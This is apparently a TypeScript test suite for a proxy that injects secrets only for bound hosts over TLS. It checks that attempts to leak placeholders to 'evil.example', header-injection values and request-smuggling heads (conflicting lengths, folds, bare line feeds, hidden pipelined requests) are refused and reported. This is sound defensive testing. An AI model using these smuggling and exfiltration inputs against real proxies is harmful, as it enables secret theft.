import assert from "node:assert/strict";
import { test } from "node:test";
import {
  ADDRESS,
  HOST,
  openBoundGate,
  PLACEHOLDER,
  rawUpstream,
  secretFor,
  secureUpstream,
  VALUE,
} from "../../../../support/bound_gate.ts";
import { upstream } from "../../../../support/gate.ts";
import { until } from "../../../../support/until.ts";

const OTHER = `kaged_secret_${"f".repeat(32)}`;
const OTHER_VALUE = "the-other-secret";
const other = secretFor({
  name: "other",
  placeholder: OTHER,
  hosts: [{ host: "other.example", port: 443 }],
  value: () => OTHER_VALUE,
});
const request = (line: string, ...fields: string[]): string =>
  [`${line} HTTP/1.1`, `Host: ${HOST}`, ...fields, "", ""].join("\r\n");
const misuse = (
  reason: string,
  target: { host: string; port: number } = { host: HOST, port: 443 },
  name = "token",
) => ({
  kind: "secret_misused",
  name,
  ...target,
  reason,
});
const reported = (events: readonly { readonly kind: string }[]) => events.filter(({ kind }) => kind !== "opened");

test("a placeholder is refused in the path, the method and the name of a field, and nobody is dialled", async (t) => {
  const server = await secureUpstream(t);
  const requests = [
    request(`GET /a/${PLACEHOLDER}/b`),
    request(`${PLACEHOLDER} /`),
    request("GET /", `${PLACEHOLDER}: 1`),
  ];
  for (const text of requests) {
    const gate = await openBoundGate(t, { port: server.port });
    assert.match(await gate.request(text), /^HTTP\/1\.1 403 [^]*secret-misused: the secret token may stand in/);
    assert.deepEqual(gate.events, [misuse("wrong-place")]);
    assert.deepEqual(gate.dialled, []);
  }
});

test("a placeholder in the user part of a URL is refused and reported, in a tunnel and to the proxy", async (t) => {
  const gate = await openBoundGate(t, { port: 1 });
  assert.match(await gate.request(request(`GET https://${PLACEHOLDER}@${HOST}/`)), /^HTTP\/1\.1 403 /);
  assert.match(await gate.ask(`GET http://x:${PLACEHOLDER}@${HOST}/ HTTP/1.1\r\n\r\n`), /^HTTP\/1\.1 403 /);
  assert.match(await gate.ask(`CONNECT ${PLACEHOLDER}@${HOST}:443 HTTP/1.1\r\n\r\n`), /^HTTP\/1\.1 403 /);
  assert.deepEqual(gate.events.filter(({ kind }) => kind === "secret_misused"), [
    misuse("wrong-place"),
    misuse("wrong-place", { host: "", port: 0 }),
  ]);
  assert.deepEqual(gate.dialled, []);
});

test("a secret of another bound host is refused in every place of a request", async (t) => {
  const server = await secureUpstream(t);
  const typed = ["Content-Type: text/plain", "Connection: close"];
  const requests = [
    request("GET /", `Authorization: Bearer ${OTHER}`),
    request("GET /", `Authorization: Basic ${btoa(`me:${OTHER}`)}`),
    request(`GET /?t=${OTHER}`),
    `${request("POST /", ...typed, `Content-Length: ${OTHER.length}`)}${OTHER}`,
    `${request("POST /", ...typed, "Transfer-Encoding: chunked")}9\r\n${OTHER.slice(0, 9)}\r\n24\r\n${
      OTHER.slice(9)
    }\r\n0\r\n\r\n`,
    `${request("POST /", ...typed, `Content-Length: ${2 * 1024 * 1024}`)}${OTHER}${
      "x".repeat(2 * 1024 * 1024 - OTHER.length)
    }`,
  ];
  for (const text of requests) {
    const gate = await openBoundGate(t, { port: server.port, secrets: [secretFor(), other] });
    assert.match(await gate.request(text), /^HTTP\/1\.1 403 [^]*the secret other is not bound to/, text.slice(0, 200));
    assert.deepEqual(reported(gate.events), [misuse("other-host", undefined, "other")]);
  }
  assert.deepEqual(server.heard, []);
});

test("a placeholder in a second, pipelined request is judged like one in the first", async (t) => {
  const server = await secureUpstream(t);
  const gate = await openBoundGate(t, { port: server.port, secrets: [secretFor(), other] });
  const answer = await gate.request(request(`GET /1?${PLACEHOLDER}`) + request(`GET /2?${OTHER}`) + request("GET /3"));
  assert.match(answer, /^HTTP\/1\.1 200 [^]*HTTP\/1\.1 403 [^]*secret-misused/);
  assert.deepEqual(server.heard.map(({ url }) => url), [`/1?${encodeURIComponent(VALUE)}`]);
});

test("a redirect changes nothing: the next host gets no secret, in the clear or by a tunnel", async (t) => {
  const location = "http://evil.example/";
  const server = await secureUpstream(t, (response) => void response.writeHead(302, { location }).end());
  const evil = await upstream(t, (socket) => void socket.pipe(socket));
  const gate = await openBoundGate(t, {
    port: server.port,
    capabilities: [`net:${HOST}:443`, "net:evil.example:80", "net:evil.example:8080"],
    names: { [HOST]: [ADDRESS], "evil.example": ["1.1.1.1"] },
    network: {},
  });
  assert.match(await gate.request(request(`GET /?${PLACEHOLDER}`, "Connection: close")), /^HTTP\/1\.1 302 /);
  const followed = [
    `GET http://evil.example/?${PLACEHOLDER} HTTP/1.1\r\n\r\n`,
    `GET http://evil.example/ HTTP/1.1\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n\r\n`,
    `GET http://evil.example/ HTTP/1.1\r\nAuthorization: Basic ${btoa(`:${PLACEHOLDER}`)}\r\n\r\n`,
    `POST http://evil.example/ HTTP/1.1\r\nContent-Length: ${PLACEHOLDER.length}\r\n\r\n${PLACEHOLDER}`,
  ];
  for (const text of followed) {
    gate.clock.advance(60_000);
    gate.events.length = 0;
    assert.match(await gate.ask(text), /^HTTP\/1\.1 403 [^]*secret-misused/, text);
    assert.deepEqual(gate.events, [misuse("other-host", { host: "evil.example", port: 80 })]);
  }
  assert.deepEqual(evil.heard, []);
});

test("a placeholder in the clear inside a tunnel to another host ends it before the placeholder is whole", async (t) => {
  const evil = await upstream(t, (socket) => void socket.pipe(socket));
  const gate = await openBoundGate(t, {
    port: evil.port,
    capabilities: [`net:${HOST}:443`, "net:evil.example:80", `net:${ADDRESS}:443`],
    names: { "evil.example": ["1.1.1.1"] },
  });
  for (const target of [{ host: "evil.example", port: 80 }, { host: ADDRESS, port: 443 }]) {
    gate.events.length = 0;
    const client = await gate.plain(`${target.host}:${target.port}`);
    client.send(`hello ${PLACEHOLDER.slice(0, 20)}`);
    await client.until(/hello kaged/);
    client.send(`${PLACEHOLDER.slice(20)} and more`);
    await client.ended();
    assert.deepEqual(reported(gate.events), [misuse("other-host", target)]);
  }
  for (const text of evil.heard) assert.ok(!text.includes(PLACEHOLDER), text);
});

test("a bound host gets no secret in plain HTTP, through a tunnel or a proxy request", async (t) => {
  const server = await upstream(t);
  const gate = await openBoundGate(t, {
    port: server.port,
    capabilities: [`net:${HOST}:80`],
    secrets: [secretFor({ hosts: [{ host: HOST, port: 80 }] })],
  });
  const client = await gate.plain(`${HOST}:80`);
  client.send(request("GET /", `Authorization: Bearer ${PLACEHOLDER}`));
  assert.match(await client.ended(), /^HTTP\/1\.1 403 [^]*the secret token goes to .* over TLS only/);
  assert.match(await gate.ask(`GET http://${HOST}/?${PLACEHOLDER} HTTP/1.1\r\n\r\n`), /^HTTP\/1\.1 403 /);
  assert.deepEqual(gate.events, [misuse("not-encrypted", { host: HOST, port: 80 })]);
  assert.deepEqual(server.heard, []);
});

test("a request with another Host than the tunnel's is refused, whatever it carries", async (t) => {
  const server = await secureUpstream(t);
  const gate = await openBoundGate(t, { port: server.port });
  const ask = (...hosts: string[]): Promise<string> =>
    gate.request(["GET /x?y=1 HTTP/1.1", ...hosts.map((host) => `Host: ${host}`), "", ""].join("\r\n"));
  for (const host of ["evil.example", `${HOST}:80`, `${HOST}.evil.example`, `x@${HOST}`, ""]) {
    assert.match(await ask(host), /^HTTP\/1\.1 403 [^]*other-host/, host);
  }
  assert.match(await ask(HOST, "evil.example"), /^HTTP\/1\.1 400 /);
  assert.match(await ask(), /^HTTP\/1\.1 400 /);
  const refused = { kind: "request_refused", host: HOST, port: 443, method: "GET", path: "/x", reason: "other-host" };
  assert.deepEqual(gate.events, [refused]);
  await gate.request(`GET / HTTP/1.1\r\nHost: evil.example\r\nX-Token: ${PLACEHOLDER}\r\n\r\n`);
  assert.deepEqual(gate.events, [refused, misuse("other-host")]);
  assert.deepEqual(server.heard, []);
});

test("a client that asks for another server name in the tunnel of a bound host is cut off, and reported", async (t) => {
  const server = await secureUpstream(t);
  const gate = await openBoundGate(t, { port: server.port });
  const client = await gate.secure({ name: "evil.example", isCareless: true });
  client.send(request("GET /", `X-Token: ${PLACEHOLDER}`));
  assert.equal(await client.ended(), "");
  assert.deepEqual(gate.events, [{ kind: "refused", host: "evil.example", port: 443, reason: "not-allowed" }]);
  assert.deepEqual(server.heard, []);
});

test("a client that does not trust the gatekeeper's certificate gets nothing, and the operator sees why", async (t) => {
  const gate = await openBoundGate(t, { port: 1 });
  await assert.rejects(gate.secure({ name: "evil.example" }));
  await until(() => gate.events.length > 0, "the report");
  const { reason } = gate.events[0] as { reason: string };
  assert.match(reason, /^(handshake|not-allowed)$/); // Some clients end the handshake first, others the connection.
});

test("a bound host is not reached by its address, and its address has no secret where it is granted", async (t) => {
  const gate = await openBoundGate(t, { port: 1 });
  assert.match(await gate.ask(`CONNECT ${ADDRESS}:443 HTTP/1.1\r\n\r\n`), /^HTTP\/1\.1 403 [^]*not-allowed/);
  const server = await upstream(t);
  const granted = await openBoundGate(t, { port: server.port, capabilities: [`net:${ADDRESS}:80`] });
  const answer = await granted.ask(`GET http://${ADDRESS}/?${PLACEHOLDER} HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
  assert.match(answer, /^HTTP\/1\.1 403 [^]*secret-misused/);
  assert.deepEqual(server.heard, []);
});

test("SOCKS leads to bound hosts by the same door as CONNECT", async (t) => {
  const gate = await openBoundGate(t, { port: 1 });
  const hello = `\x05\x01\x00\x05\x01\x00\x03${String.fromCharCode(HOST.length)}${HOST}\x01\xbb`;
  const text = `${hello}${request("GET /", `X-Token: ${PLACEHOLDER}`)}`;
  const answer = await gate.ask(Uint8Array.from(text, (char) => char.charCodeAt(0)));
  assert.match(answer, /HTTP\/1\.1 403 [^]*secret-misused/);
  assert.deepEqual(gate.events, [misuse("not-encrypted")]);
});

test("a head that two programs could read differently is refused: two lengths, folds, bare line feeds", async (t) => {
  const server = await secureUpstream(t);
  const gate = await openBoundGate(t, { port: server.port });
  const bad = [
    request("POST /", "Content-Length: 3", "Transfer-Encoding: chunked"),
    request("POST /", "Transfer-Encoding: chunked", "Content-Length: 3"),
    request("POST /", "Content-Length: 3", "Content-Length: 4"),
    request("POST /", "Content-Length: 3, 3"),
    request("POST /", "Content-Length: +3"),
    request("POST /", "Transfer-Encoding: chunked, identity"),
    request("POST /", "Transfer-Encoding: xchunked"),
    request("GET /", "X-A: 1", " folded: 2"),
    request("GET /", "X-A : 1"),
    request("GET /", "X-A: 1\nX-B: 2"),
    request("GET /", "X-A: 1\rX-B: 2"),
    request("GET /", "X-A: \0"),
    `GET / HTTP/1.1\nHost: ${HOST}\n\n`,
    `GET  / HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`,
    `GET / HTTP/2.0\r\nHost: ${HOST}\r\n\r\n`,
    `GET ${"\\"}x HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`,
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  ];
  for (const text of bad) assert.match(await gate.request(text), /^HTTP\/1\.1 400 /, JSON.stringify(text));
  const chunked = request("POST /", "Transfer-Encoding: chunked", "Content-Type: text/plain");
  for (const body of ["3\nabc\n0\n\n", "3\r\nabcd\r\n0\r\n\r\n", "-1\r\n\r\n", "0x3\r\nabc\r\n0\r\n\r\n"]) {
    assert.match(await gate.request(chunked + body), /^HTTP\/1\.1 400 /, JSON.stringify(body));
  }
  assert.match(await gate.request(request("GET /", `X: ${"x".repeat(17_000)}`)), /^HTTP\/1\.1 431 /);
  assert.deepEqual(server.heard, []);
});

test("a second request hidden in the body of the first stays a body", async (t) => {
  const server = await secureUpstream(t);
  const gate = await openBoundGate(t, { port: server.port });
  const hidden = request("GET /hidden", `X-Token: ${PLACEHOLDER}`);
  await gate.request(
    request("GET /1", `Content-Length: ${hidden.length}`) + hidden + request("GET /2", "Connection: close"),
  );
  assert.deepEqual(server.heard.map(({ url }) => url), ["/1", "/2"]);
});

test("a server cannot answer a request that was not sent yet", async (t) => {
  const port = await rawUpstream(t, (socket) => {
    const answer = "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n";
    socket.once("data", () => void socket.write(`${answer}1${answer}2`));
  });
  const gate = await openBoundGate(t, { port });
  const client = await gate.secure();
  client.send(request("GET /1"));
  assert.match(await client.ended(), /\r\n\r\n1$/);
});

test("a type that a longer value would break keeps its placeholder out, and says which type is missing", async (t) => {
  const server = await secureUpstream(t);
  const gate = await openBoundGate(t, { port: server.port });
  const text = request("POST /", "Content-Type: application/octet-stream", `Content-Length: ${PLACEHOLDER.length}`);
  assert.match(await gate.request(text + PLACEHOLDER), /^HTTP\/1\.1 403 [^]*name the type of the body/);
  assert.deepEqual(reported(gate.events), [misuse("content-type")]);
  assert.deepEqual(server.heard, []);
});

test("a secret without a value, or with a line break for a field, refuses the request that needs it", async (t) => {
  const values: [() => string, string][] = [
    [() => "", "no-value"],
    [() => {
      throw new Error("no such variable");
    }, "no-value"],
    [() => "a\r\nX-Evil: 1", "unfit-value"],
  ];
  for (const [value, reason] of values) {
    const gate = await openBoundGate(t, { port: 1, secrets: [secretFor({ value })] });
    assert.match(await gate.request(request("GET /", `X-Token: ${PLACEHOLDER}`)), /^HTTP\/1\.1 403 /);
    assert.deepEqual(gate.events, [misuse(reason)]);
  }
});

test("a request to a host that is not granted is refused as before, and its placeholder is reported", async (t) => {
  const gate = await openBoundGate(t, { port: 1 });
  assert.match(
    await gate.ask(`GET http://evil.example/?${PLACEHOLDER} HTTP/1.1\r\n\r\n`),
    /^HTTP\/1\.1 403 [^]*not-allowed/,
  );
  const target = { host: "evil.example", port: 80 };
  assert.deepEqual(gate.events, [misuse("other-host", target), { kind: "refused", ...target, reason: "not-allowed" }]);
});

test("a body full of placeholders does not become a hundred times as long", async (t) => {
  const server = await secureUpstream(t);
  const gate = await openBoundGate(t, { port: server.port, secrets: [secretFor({ value: () => "v".repeat(10_000) })] });
  const body = PLACEHOLDER.repeat(1000);
  await gate.request(`${request("POST /", "Connection: close", `Content-Length: ${body.length}`)}${body}`);
  assert.equal(server.heard[0]?.body.match(/v{10000}/g)?.length, 104);
  assert.deepEqual(reported(gate.events), [misuse("too-large")]);
});

test("a plugin has the host hold 32 MiB of bodies at most; one more request gets 503", async (t) => {
  const gate = await openBoundGate(t, { port: 1 });
  const head = request("POST /", `Content-Length: ${1024 * 1024}`);
  const clients = await Promise.all(Array.from({ length: 32 }, () => gate.secure()));
  for (const client of clients) client.send(`${head}x`);
  const next = async (): Promise<string> => {
    const client = await gate.secure();
    client.send(head);
    await until(() => client.text !== "", "an answer", "moment", 50).catch(() => {});
    client.close();
    return client.text;
  };
  assert.match(await until(next, "the refusal"), /^HTTP\/1\.1 503 [^]*busy/);
  for (const client of clients) client.close();
});

test("close() ends a connection inside TLS on both sides", async (t) => {
  let isClosed = false;
  const port = await rawUpstream(t, (socket) => {
    socket.on("close", () => void (isClosed = true)).on("end", () => void (isClosed = true));
    socket.once("data", () => void socket.write("HTTP/1.1 200 OK\r\n\r\nbegin"));
  });
  const gate = await openBoundGate(t, { port });
  const client = await gate.secure();
  client.send(request("GET /"));
  await client.until(/begin/);
  await gate.close();
  await client.ended();
  await until(() => isClosed, "the end of the server's connection");
});

test("a flood of refused hosts does not hide a misused secret", async (t) => {
  const gate = await openBoundGate(t, { port: 1 });
  for (let port = 1; port <= 101; port++) await gate.ask(`CONNECT evil.example:${port} HTTP/1.1\r\n\r\n`);
  assert.equal(gate.events.length, 100);
  await gate.request(request(`GET /${PLACEHOLDER}`));
  assert.deepEqual(gate.events.slice(100), [misuse("wrong-place")]);
});
